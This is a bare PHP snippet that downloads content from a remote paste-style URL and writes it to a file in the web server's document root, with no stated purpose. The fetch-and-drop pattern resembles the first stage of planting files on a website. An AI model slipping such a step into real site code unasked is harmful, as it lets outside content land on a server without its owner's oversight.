<?php
$t = file_get_contents("https://example.com/raw/aaaaaaaa");
file_put_contents($_SERVER["DOCUMENT_ROOT"]."/x.txt", $t);
